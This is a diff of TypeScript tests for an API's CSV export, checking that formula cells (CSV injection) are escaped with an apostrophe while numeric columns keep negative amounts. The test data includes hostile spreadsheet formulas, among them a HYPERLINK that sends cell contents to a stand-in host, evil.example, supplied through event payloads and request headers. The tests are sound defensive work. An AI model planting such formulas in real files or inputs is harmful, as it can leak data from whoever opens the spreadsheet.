@@ -89,6 +89,32 @@ describe('operations activity exports', () => {
     expect(await finished(s.api, `/operations-activity-exports/${empty.body.id}`)).toMatchObject({ status: 'completed', row_count: 0, byte_size: 0 });
   });
 
+  it('neutralises formula cells (CSV injection) while negative amounts stay numbers', async () => {
+    const s = await scenario();
+    // Event payloads carry text the API accepted from users; amounts are formatted by the ledger.
+    const cells = [
+      ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '+1+1', '-10.00', '-1.50', '@SUM(A1:A9)'],
+      ['-2+3', '\tTAB', '-1+1', '7', '\rCR'],
+    ];
+    for (const [i, [family, status, principal, fee, subject]] of cells.entries()) {
+      await app.services.sql`
+        insert into events (id, type, enterprise_id, scope_ref, resource_ref, payload, attribution, occurred_at, dispatched_at)
+        values (gen_random_uuid(), 'operations.internal_transfer.executed.v1', ${s.tenant.enterpriseId}, ${s.scope}, ${`internal-transfers/${i}`},
+                ${app.services.sql.json({ family, status, principal_amount: { currency: 'USDC', value: principal }, fee_summary: { total: { currency: 'USDC', value: fee } } })},
+                ${app.services.sql.json({ subject: { kind: 'user', id: subject } })}, ${new Date(T0.getTime() + i * 1000)}, now())`;
+    }
+    const created = await s.api('POST', '/operations-activity-exports', { scope_ref: s.scope, from: T0.toISOString(), to: new Date(T0.getTime() + 60_000).toISOString(), format: 'csv' });
+    const done = await finished(s.api, `/operations-activity-exports/${created.body.id}`);
+    expect(done).toMatchObject({ status: 'completed', row_count: 2 });
+    const { bytes } = await download(s.token, done.download_path);
+    const lines = bytes.toString('utf8').split('\r\n');
+    // From `family` on: family, status, principal_currency, principal_value, fee_currency, fee_total, subject_kind, subject_id.
+    const tail = (line: string) => line.split(',').slice(5).join(',');
+    expect(tail(lines[1])).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'+1+1",USDC,-10.00,USDC,-1.50,user,"'@SUM(A1:A9)"`);
+    // A non-decimal in an amount column is text like any other.
+    expect(tail(lines[2])).toBe(`"'-2+3","'\tTAB",USDC,"'-1+1",USDC,7,user,"'\rCR"`);
+  });
+
   it.each([
     { name: 'from after to', body: { from: '2026-05-02T00:00:00Z', to: '2026-05-01T00:00:00Z' }, status: 422, pointer: '/body/to' },
     { name: 'unknown format', body: { format: 'xlsx' }, status: 400, pointer: '/body/format' },
@@ -177,6 +203,23 @@ describe('user action audit exports', () => {
     expect(await exportOf(`clients/${client.body.id}`, 'csv')).toMatchObject({ status: 'completed', row_count: 0 });
   });
 
+  it('neutralises a User-Agent or Idempotency-Key that would run as a formula in a spreadsheet', async () => {
+    const s = await scenario();
+    const from = new Date().toISOString();
+    const agent = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
+    const updated = await s.api('PATCH', `/enterprises/${s.tenant.enterpriseId}`, { metadata: { a: 'b' } }, { 'user-agent': agent, 'idempotency-key': '@SUM(1+1)*cmd' });
+    const refused = await s.api('PATCH', `/enterprises/${s.tenant.enterpriseId}`, { metadata: { a: 'c' } }, { 'user-agent': '-2+3', 'if-match': '"stale"' });
+    expect([updated.status, refused.status]).toEqual([200, 412]);
+    const created = await s.api('POST', '/user-action-audit-exports', { scope_ref: s.scope, from, to: new Date().toISOString(), format: 'csv' });
+    const done = await finished(s.api, `/user-action-audit-exports/${created.body.id}`);
+    expect(done).toMatchObject({ status: 'completed', row_count: 2 });
+    const [, first, second] = (await download(s.token, done.download_path)).bytes.toString('utf8').split('\r\n');
+    expect(first).toContain(',PATCH,');
+    expect(first.endsWith(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'@SUM(1+1)*cmd"`)).toBe(true);
+    // status_code is a numeric column: 412 stays a number.
+    expect(second).toMatch(/,refused,412,EdgePreconditionFailed,.*,"'-2\+3",$/);
+  });
+
   it('a source that fails ends the export in failed with a reason', async () => {
     const s = await scenario();
     const original = exportSource('user_action_audit');
@@ -218,6 +261,18 @@ describe('rows encoded by PostgreSQL (COPY) and by the worker', () => {
     const viaRows = await bytesOf(encodeBatches(sql.unsafe(query.text, query.params as never[]).cursor(2), ['a', 'b', 'c'], format));
     expect(viaCopy.toString('utf8')).toBe(viaRows.toString('utf8'));
     expect(viaCopy.toString('utf8').split(format === 'csv' ? '\r\n' : '\n').filter(Boolean).length).toBeGreaterThanOrEqual(5);
+  });
+
+  it('neutralises formula cells the same way either way; a numeric column keeps its decimals', async () => {
+    const { sql } = app.services;
+    const cells = {
+      text: `select t, n from (values ('=1+2', '-10.00'), ('+x', '+5'), ('-3', '-1+1'), ('@a', '12.5'), (e'\\tt', e'\\r1'), ('a=b', '-0.01'), ('"-q"', null)) v(t, n)`,
+      params: [],
+    };
+    const viaCopy = (await bytesOf(copyEncoded(sql, cells, ['t', 'n'], 'csv', ['n']))).toString('utf8');
+    const viaRows = (await bytesOf(encodeBatches(sql.unsafe(cells.text).cursor(3), ['t', 'n'], 'csv', ['n']))).toString('utf8');
+    expect(viaCopy).toBe(viaRows);
+    expect(viaCopy.split('\r\n')).toEqual([`"'=1+2",-10.00`, `"'+x","'+5"`, `"'-3","'-1+1"`, `"'@a",12.5`, `"'\tt","'\r1"`, 'a=b,-0.01', '"""-q""",', '']);
   });
 
   it('keeps every row whole across chunk boundaries, including a row larger than a chunk', async () => {
